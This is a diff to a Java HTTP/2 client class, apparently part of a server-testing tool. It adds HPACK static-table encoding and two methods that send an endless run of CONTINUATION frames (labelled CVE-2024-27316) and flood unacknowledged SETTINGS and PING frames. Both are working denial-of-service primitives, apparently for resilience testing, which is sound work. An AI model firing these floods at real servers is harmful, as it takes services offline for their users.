@@ -16,6 +16,7 @@ import java.nio.ByteBuffer;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
 import java.util.Optional;
 import org.eclipse.jetty.http.MetaData;
 import org.eclipse.jetty.http2.hpack.HpackDecoder;
@@ -29,9 +30,16 @@ final class Http2Call implements HttpCall {
     private static final int HEADERS = 1;
     private static final int RST_STREAM = 3;
     private static final int SETTINGS = 4;
+    private static final int PING = 6;
+    private static final int CONTINUATION = 9;
     private static final int END_STREAM = 1;
     private static final int ACK = 1;
     private static final int END_HEADERS = 4;
+
+    /** Where the names are that Tomcat takes in no other way (RFC 7541, appendix A). */
+    private static final Map<String, Integer> STATIC_TABLE =
+            Map.of(":authority", 1, ":method", 2, ":path", 4, ":scheme", 6);
+
     private static final byte[] CANCEL = {0, 0, 0, 8};
 
     private final Socket socket;
@@ -155,8 +163,11 @@ final class Http2Call implements HttpCall {
         ByteArrayOutputStream block = new ByteArrayOutputStream();
         for (String field : fields) {
             int colon = field.indexOf(':', 1);
-            block.write(0);
-            string(block, field.substring(0, colon).toLowerCase(Locale.ROOT));
+            String name = field.substring(0, colon).toLowerCase(Locale.ROOT);
+            block.write(STATIC_TABLE.getOrDefault(name, 0));
+            if (!STATIC_TABLE.containsKey(name)) {
+                string(block, name);
+            }
             string(block, field.substring(colon + 1).strip());
         }
         return block.toByteArray();
@@ -198,6 +209,23 @@ final class Http2Call implements HttpCall {
             frameIfWanted(HEADERS, END_HEADERS, stream, block(fields(head)));
             frameIfWanted(DATA, 0, stream, bytes);
             frameIfWanted(RST_STREAM, 0, stream, CANCEL);
+        }
+    }
+
+    /** Sends a head that never ends (CVE-2024-27316), as far as the server wants it. */
+    void endlessHead(HttpLine.Head head, int frames) {
+        frameIfWanted(HEADERS, 0, 3, block(fields(head)));
+        byte[] more = block(List.of("x-more: " + "x".repeat(100)));
+        for (int i = 0; i < frames; i++) {
+            frameIfWanted(CONTINUATION, 0, 3, more);
+        }
+    }
+
+    /** Sends settings that want to be acknowledged and pings that want to be answered, and reads none of it. */
+    void nag(int frames) {
+        for (int i = 0; i < frames; i++) {
+            frameIfWanted(SETTINGS, 0, 0, new byte[0]);
+            frameIfWanted(PING, 0, 0, new byte[8]);
         }
     }
 
